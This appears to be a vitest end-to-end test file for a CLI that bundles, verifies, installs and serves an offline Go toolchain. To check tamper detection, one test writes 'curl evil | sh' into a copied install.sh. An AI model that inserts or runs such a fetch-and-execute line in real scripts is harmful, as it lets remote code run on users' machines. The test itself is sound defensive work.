/**
 * End-to-end with the real Go fixture archive (go1.19.8, ~120 MB): the CLI creates a bundle,
 * `sha256sum -c` accepts it, install.sh gives login shells where `go version` works, the Ansible
 * playbook installs it on localhost, and the relay serves it to other processes.
 */
import { describe, expect, it, beforeAll, afterAll } from 'vitest';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../../../test/support/tmp';
import { repoRoot } from '../../../test/support/go-fixture';
import { createJob } from '../jobs';
import { exportBundle } from './export';
import { fixtureDownload } from './test-helpers';

const CLI = join(repoRoot, 'bin', 'go-offline.cjs');
const cli = (args: string[], env: NodeJS.ProcessEnv = {}) =>
  spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env, GO_OFFLINE_LANG: 'en', ...env }, maxBuffer: 64 * 1024 * 1024 });

describe('bundle of the real Go fixture', () => {
  const t = tempDir('bundle-fixture-');
  let version: string;
  let bundleDir: string;
  beforeAll(async () => {
    const { fixture } = await fixtureDownload();
    version = fixture.version;
    bundleDir = join(t.path, 'usb', 'go-bundle');
    const r = cli(['bundle', 'create', '--archive', fixture.archive, '--platform', 'linux-amd64', '--out', bundleDir, '--json'], { HOME: join(t.path, 'home-create') });
    if (r.status !== 0) throw new Error(`bundle create failed (${r.status}): ${r.stderr}`);
    const result = JSON.parse(r.stdout) as { readBack: boolean; manifest: { go: { versions: string[] } } };
    expect(result.readBack).toBe(true);
    expect(result.manifest.go.versions).toEqual([fixture.version]);
  });
  afterAll(() => t.remove());

  it('passes sha256sum -c and `bundle verify`; a tampered copy exits 2 naming the file', () => {
    const r = spawnSync('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: bundleDir, encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain(`go/${version}.linux-amd64.tar.gz: OK`);
    const v = cli(['bundle', 'verify', bundleDir, '--json']);
    expect(v.status).toBe(0);
    expect(JSON.parse(v.stdout).ok).toBe(true);
    const bad = join(t.path, 'bad');
    mkdirSync(bad);
    spawnSync('cp', ['-a', bundleDir + '/.', bad]);
    writeFileSync(join(bad, 'install.sh'), readFileSync(join(bad, 'install.sh'), 'utf8').replace('set -eu', 'set -eu; curl evil | sh'));
    const b = cli(['bundle', 'verify', bad]);
    expect(b.status).toBe(2);
    expect(b.stdout).toContain('FAIL install.sh');
    expect(b.stderr).toContain('BUNDLE_TAMPERED');
  });

  it('install.sh (split archive) gives login shells where go version prints the bundle version', async () => {
    const { file } = await fixtureDownload();
    const split = join(t.path, 'split');
    const res = await exportBundle({ outDir: split, archives: [file], split: 'always', partSize: 48 * 1024 * 1024, job: createJob() });
    expect(res.manifest.files.find((f) => f.kind === 'archive')!.parts!.length).toBe(3);
    const home = join(t.path, 'home');
    const prefix = join(t.path, 'prefix');
    mkdirSync(join(prefix, 'go', 'bin'), { recursive: true });
    writeFileSync(join(prefix, 'go', 'OLD'), 'an older Go');
    writeFileSync(join(prefix, 'go', 'VERSION'), 'go1.18.0\n');
    mkdirSync(home);
    writeFileSync(join(home, '.bashrc'), '# my bashrc\nalias ll="ls -l"\n');
    const env = { HOME: home, PATH: '/usr/bin:/bin', LANG: 'C', TERM: 'dumb' };
    for (let i = 0; i < 2; i++) {
      const r = spawnSync('sh', [join(split, 'install.sh'), '--prefix', prefix, '--scope', 'user'], { env, encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(0);
      expect(r.stdout).toContain(`go version ${version}`);
    }
    // the old Go was moved aside, not overwritten
    const moved = spawnSync('sh', ['-c', 'ls -d "$0"/.go-previous-*', prefix], { encoding: 'utf8' }).stdout.trim().split('\n');
    expect(moved.length).toBeGreaterThanOrEqual(1);
    expect(existsSync(join(moved[0]!, 'OLD'))).toBe(true);
    expect(existsSync(join(prefix, 'go', 'OLD'))).toBe(false);
    // marked block written once, other content kept
    const profile = readFileSync(join(home, '.profile'), 'utf8');
    expect(profile.split('# >>> go-offline >>>').length - 1).toBe(1);
    expect(profile).toContain("export GOTOOLCHAIN='local'");
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toContain('alias ll="ls -l"');
    const bash = spawnSync('bash', ['-lc', 'command -v go; go version; echo "TC=$GOTOOLCHAIN"'], { env, encoding: 'utf8' });
    expect(bash.stdout).toContain(join(prefix, 'go', 'bin', 'go'));
    expect(bash.stdout).toContain(`go version ${version} linux/amd64`);
    expect(bash.stdout).toContain('TC=local');
    const zsh = spawnSync('zsh', ['-lc', 'go version'], { env, encoding: 'utf8' });
    expect(zsh.stdout).toContain(`go version ${version}`);
    const fish = spawnSync('fish', ['-lc', 'go version; echo TC=$GOTOOLCHAIN'], { env, encoding: 'utf8' });
    expect(fish.stdout).toContain(`go version ${version}`);
    expect(fish.stdout).toContain('TC=local');
  });

  it('the Ansible playbook passes --syntax-check and installs on localhost, checking sums on the host', () => {
    const pb = join(bundleDir, 'ansible', 'install-go.yml');
    const env = { ...process.env, ANSIBLE_NOCOLOR: '1', ANSIBLE_RETRY_FILES_ENABLED: '0', ANSIBLE_LOCAL_TEMP: join(t.path, 'ans-local'), ANSIBLE_REMOTE_TEMP: join(t.path, 'ans-remote'), ANSIBLE_HOST_KEY_CHECKING: '0' };
    const inv = join(t.path, 'inventory.ini');
    writeFileSync(inv, 'localhost ansible_connection=local ansible_python_interpreter=/usr/bin/python3\n');
    const syntax = spawnSync('ansible-playbook', ['--syntax-check', '-i', inv, pb], { env, encoding: 'utf8' });
    expect(syntax.status, syntax.stderr + syntax.stdout).toBe(0);
    const prefix = join(t.path, 'ansible-prefix');
    const home = join(t.path, 'ansible-home');
    mkdirSync(home);
    const r = spawnSync('ansible-playbook', ['-i', inv, pb, '-e', `go_offline_prefix=${prefix}`, '-e', 'go_offline_scope=user', '-e', `go_offline_home=${home}`], { env, encoding: 'utf8', maxBuffer: 16 * 1024 * 1024 });
    expect(r.status, r.stdout.slice(-3000)).toBe(0);
    expect(r.stdout).toContain(`localhost: installed and verified ${version} at ${prefix}/go`);
    expect(r.stdout).toMatch(/failed=0/);
    const v = spawnSync(join(prefix, 'go', 'bin', 'go'), ['version'], { encoding: 'utf8', env: { ...process.env, GOTOOLCHAIN: 'local' } });
    expect(v.stdout).toContain(version);
    expect(readFileSync(join(home, '.profile'), 'utf8')).toContain('# >>> go-offline >>>');
  });

  it('the relay serves the bundle to another process: CLI verify from the URL, install.sh --from URL', async () => {
    const child = spawn(process.execPath, [CLI, 'serve', bundleDir, '--port', '0', '--json', '--no-verify'], { env: { ...process.env, GO_OFFLINE_LANG: 'en' }, stdio: ['ignore', 'pipe', 'pipe'] });
    try {
      const info = await new Promise<{ url: string }>((resolveInfo, reject) => {
        let out = '';
        child.stdout.on('data', (d: Buffer) => {
          out += d.toString();
          try {
            resolveInfo(JSON.parse(out));
          } catch {
            /* not complete yet */
          }
        });
        child.on('exit', (code) => reject(new Error(`serve exited ${code}`)));
      });
      expect(info.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
      const v = await new Promise<{ status: number | null; stdout: string; stderr: string }>((r) => {
        const p = spawn(process.execPath, [CLI, 'bundle', 'verify', info.url, '--json'], { stdio: ['ignore', 'pipe', 'pipe'] });
        let stdout = '';
        let stderr = '';
        p.stdout.on('data', (d: Buffer) => (stdout += d));
        p.stderr.on('data', (d: Buffer) => (stderr += d));
        p.on('exit', (status) => r({ status, stdout, stderr }));
      });
      expect(v.status, v.stderr).toBe(0);
      const rep = JSON.parse(v.stdout);
      expect(rep).toMatchObject({ ok: true, sourceKind: 'url', extraFilesChecked: false });
      const home = join(t.path, 'relay-home');
      mkdirSync(home);
      const script = join(t.path, 'relay-install.sh');
      writeFileSync(script, Buffer.from(await (await fetch(info.url + 'install.sh')).arrayBuffer()));
      const prefix = join(t.path, 'relay-prefix');
      const inst = await new Promise<{ status: number | null; stdout: string; stderr: string }>((r) => {
        const p = spawn('sh', [script, '--from', info.url, '--prefix', prefix, '--scope', 'user', '--no-profile'], { env: { HOME: home, PATH: '/usr/bin:/bin' }, stdio: ['ignore', 'pipe', 'pipe'] });
        let stdout = '';
        let stderr = '';
        p.stdout.on('data', (d: Buffer) => (stdout += d));
        p.stderr.on('data', (d: Buffer) => (stderr += d));
        p.on('exit', (status) => r({ status, stdout, stderr }));
      });
      expect(inst.status, inst.stderr).toBe(0);
      expect(inst.stdout).toContain(`go version ${version}`);
    } finally {
      child.kill('SIGINT');
    }
  });
});
